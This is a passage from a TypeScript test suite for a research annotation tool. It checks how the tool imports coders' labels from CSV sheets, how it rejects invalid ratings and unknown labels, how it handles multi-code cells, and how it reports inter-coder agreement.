    expect(bob.code).toBe(1);
    const summary = JSON.parse(bob.stdout);
    expect(summary).toMatchObject({ stored: CODEABLE_PER_SESSION - 1, emptyCells: 1, refused: { "unknown-label": 1 } });
    expect(bob.stderr).toContain(`${out}:4: code_bob_sentiment: "9" is not a rating of scale sentiment (a whole number 1-7 or one of its anchors)`);

    const agree = await runCli(["agree", study, "--codebook", "pragmatic-style", "--coders", "human:alice,human:bob", "--bootstrap", "0", "--json"]);
    expect(agree.code).toBe(0);
    const report = JSON.parse(agree.stdout) as AgreementReport;
    expect(report.variables.map((v) => v.name)).toEqual(["sentiment", "formality"]);
    expect(report.coverage!.unitsCodedByAll).toBe(CODEABLE_PER_SESSION - 1);
  });

  it("stores several codes from one cell when the codebook allows multi-coding", async () => {
    const codebook = join(dir, "moves.json");
    await writeFile(
      codebook,
      JSON.stringify({
        id: "moves",
        version: "1",
        title: "Moves",
        kind: "nominal",
        multiple: true,
        categories: [
          { id: "claim", label: "Claim", definition: "States something." },
          { id: "question", label: "Question", definition: "Asks something.", aliases: ["Q"] },
          { id: "proposal", label: "Proposal", definition: "Proposes something." },
        ],
      }),
    );
    const out = join(dir, "moves.csv");
    expect((await runCli(["sheet", study, "--codebook", codebook, "--sessions", "control-1", "--coders", "alice", "--out", out])).code).toBe(0);
    const sheet = await readSheet(out);
    sheet.rows.forEach((row) => (row.code_alice = "claim"));
    sheet.rows[0].code_alice = "Claim; q";
    sheet.rows[1].code_alice = "claim;answer";
    await writeSheet(out, sheet);
    const run = await runCli(["codes", "import", out, "--study", study, "--codebook", codebook, "--coder", "human:alice"]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`${out}:3: unknown label "answer": matches no category id, label or alias of codebook moves (nothing of this row was stored)`);
    const records = await readCodes(study, "moves", "human:alice");
    expect(records).toHaveLength(CODEABLE_PER_SESSION - 1);
    expect(records.find((r) => r.turn === "t0001")!.codes).toEqual(["claim", "question"]);
  });
});
